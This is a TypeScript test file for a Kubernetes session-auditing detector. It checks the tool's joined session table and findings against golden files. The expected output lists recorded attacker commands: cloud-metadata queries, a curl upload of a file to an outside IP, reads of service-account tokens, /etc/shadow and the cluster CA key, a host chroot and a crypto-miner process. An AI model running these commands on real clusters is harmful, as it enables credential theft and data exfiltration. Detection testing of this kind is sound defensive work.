/**
 * The recorded exec, attach and debug requests, joined with lines of a node: each session's document
 * as a golden file, and what matters of all of them in one table. After a wanted change:
 * `npx vitest run -u` on this file, and read the diff.
 */
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { createOffline } from '../../../../../services/cli/offline/pipeline.ts';
import { readRules } from '../../../../../services/detector/read-rules.ts';
import { createDetectorStage } from '../../../../../services/detector/stage.ts';
import { sessionsOf } from '../../../../../services/detector/worker.ts';
import { createOfflineNormalizer } from '../../../../../services/normalizer/stage.ts';
import { missingData } from '../../../../support/data.ts';
import { recordedSessions } from '../../../../support/recorded-sessions.ts';

interface Listed {
  readonly time: string;
  readonly confidence: string;
  readonly command_line: string;
  readonly outlived?: boolean;
}

interface SessionDocument {
  readonly user: { readonly name: string };
  readonly kubernetes: { readonly pod: { readonly name: string } };
  readonly podwitness: {
    readonly session: {
      readonly kind: string;
      readonly state: string;
      readonly confidence: string;
      readonly requested_at: string;
      readonly coverage?: readonly string[];
      readonly commands?: readonly Listed[];
    };
  };
}

interface Told {
  readonly sessions: readonly SessionDocument[];
  readonly findings: readonly string[];
}

function golden(name: string): string {
  const path = `../../../../golden/sessions/${name}`;
  return fileURLToPath(new URL(path, import.meta.url));
}

async function told(): Promise<Told> {
  const rules = { bundled: false, paths: [golden('recorded-rules.yaml')], exceptionPaths: [] };
  const stages = {
    normalizer: createOfflineNormalizer({ dataStreamNamespace: 'default' }),
    detector: createDetectorStage({ current: await readRules(rules) }),
    sessions: sessionsOf,
  };
  const offline = createOffline(stages, 'recorded');
  const { audit, enricher } = recordedSessions();
  for (const lines of [audit, enricher]) offline.add(Buffer.from(lines.join('\n')));
  const { findings, sessions } = offline.result();
  return {
    sessions: sessions.map(({ document }) => JSON.parse(String(document)) as SessionDocument),
    findings: findings.map(({ message }) => message),
  };
}

function timeOf({ podwitness }: SessionDocument): string {
  return podwitness.session.requested_at.slice('2026-11-21T06:'.length, -1);
}

function commandText({ command_line, confidence, outlived, time }: Listed): string {
  const late = outlived === true ? ', outlived' : '';
  return `  ${time.slice('2026-11-21T06:'.length, -'.000Z'.length)} ${confidence}${late}: ${command_line}`;
}

/** A line for the session, and one for each of its commands. */
function rowsOf(document: SessionDocument): readonly string[] {
  const { commands = [], confidence, coverage = [], kind, state } = document.podwitness.session;
  const who = `${timeOf(document)} ${kind} ${document.user.name} ${document.kubernetes.pod.name}`;
  const said = [state, confidence, ...coverage].join(' ');
  return [`${who}: ${said}`, ...commands.map(commandText)];
}

const missing = missingData();

describe.skipIf(missing !== undefined)(
  `recorded sessions${missing === undefined ? '' : `: ${missing}`}`,
  () => {
    let all: Told;
    beforeAll(async () => {
      all = await told();
    });

    it('are joined as sure as they can be', () => {
      expect(all.sessions.flatMap(rowsOf)).toEqual([
        '10:00.029 exec alice checkout-0: closed inferred other_session_in_pod',
        '  10:00 inferred: id',
        '10:00.330 exec alice checkout-0: closed inferred other_session_in_pod',
        '  10:00 inferred: sh -c curl -s http://169.254.169.254/latest/meta-data/',
        '  10:00 inferred: curl -s http://169.254.169.254/latest/meta-data/',
        '10:00.589 exec alice checkout-0: closed inferred mark_stripped other_session_in_pod',
        '  10:00 inferred: /bin/bash',
        '  10:02 inferred: rm -f /etc/app/config.yaml',
        '  10:03 inferred: env -i /bin/bash',
        '  10:04 inferred: curl -T /tmp/d http://203.0.113.9/',
        '10:05.860 attach alice checkout-0: closed none attach_is_blind',
        '10:06.239 port-forward alice checkout-0: closed none port_forward_is_blind',
        '10:10.154 exec bob ledger-0: closed exact mark_of_other_pod',
        '  10:10 exact: cat /var/run/secrets/kubernetes.io/serviceaccount/token',
        '10:10.395 exec alice checkout-0: closed inferred other_session_in_pod',
        '  10:10 inferred: id',
        '10:10.540 exec alice checkout-0: closed none no_telemetry',
        '10:10.761 exec alice checkout-0: closed conflict mark_of_other_pod other_session_in_pod process_outlived',
        '  10:10 inferred: /bin/bash',
        '  10:12 inferred: whoami',
        '  10:14 conflict: cat /etc/shadow',
        '  10:22 inferred, outlived: /tmp/miner -o pool',
        '10:15.997 attach alice checkout-0: closed none attach_is_blind',
        '10:16.372 port-forward alice checkout-0: closed none port_forward_is_blind',
        '10:20.446 exec bob ledger-0: closed inferred webhook_failed_open',
        '  10:20 inferred: cat /var/run/secrets/kubernetes.io/serviceaccount/token',
        '10:22.489 exec alice stuck-0: closed none no_telemetry node_not_known',
        '10:22.936 exec alice checkout-0: closed ambiguous mark_not_set other_session_in_pod',
        '  10:22 inferred: ls',
        '  10:23 ambiguous: cat /etc/group',
        '10:23.243 exec alice checkout-0: closed ambiguous other_session_in_pod',
        '  10:23 inferred: sh -c echo A',
        '  10:23 ambiguous: cat /etc/group',
        '10:23.605 cp alice checkout-0: closed ambiguous copy_is_blind other_session_in_pod',
        '  10:23 inferred: tar cf - /etc/passwd',
        '  10:23 ambiguous: cat /etc/group',
        '10:24.368 ephemeral bob checkout-0: open inferred other_session_in_pod',
        '  10:25 inferred: sh -c sleep 1',
        '10:24.725 debug-node bob node-debugger-node-1-hmrpx: open inferred privileged_container',
        '  10:25 exact: sh',
        '  10:26 exact: chroot /host',
        '  10:27 inferred: cat /etc/kubernetes/pki/ca.key',
        '10:25.942 exec system:serviceaccount:ci:deployer api-0: closed exact',
        '  10:25 exact: env',
        '10:26.360 exec bob checkout-0: closed inferred other_session_in_pod',
        '  10:26 inferred: id',
      ]);
    });

    it('tell what somebody did, and of what went around the join', () => {
      expect(all.findings).toEqual([
        'Most likely alice, in an exec session in payments/checkout-0 (app), ran: rm -f /etc/app/config.yaml',
        "The mark was taken off in alice's exec session in payments/checkout-0 (app); from 2026-11-21T06:10:04.000Z on commands have none, and are joined by time and place only: curl -T /tmp/d http://203.0.113.9/",
        "A command in payments/checkout-0 (app) had the mark of bob's session in production/ledger-0 (app); only alice had a session there then, as far as is known: cat /etc/shadow",
        "A process of alice's exec session in payments/checkout-0 (app) still ran 6 s after the session had ended: /tmp/miner -o pool",
        "alice's exec session in payments/checkout-0 (app) was let in without a mark, though others of the namespace have one; its commands are joined by time and place only; what was asked for: sh -c 'echo \"hi\"\\u{a}ls'",
      ]);
    });

    it('give the documents they gave', async () => {
      const names = all.sessions.map(
        (one) => `recorded/${timeOf(one).replace(':', '-')}-${one.podwitness.session.kind}.json`,
      );
      expect(new Set(names).size).toBe(names.length);
      for (const [at, document] of all.sessions.entries()) {
        const readable = `${JSON.stringify(document, null, 2)}\n`;
        await expect(readable).toMatchFileSnapshot(golden(names[at] ?? ''));
      }
    });
  },
);
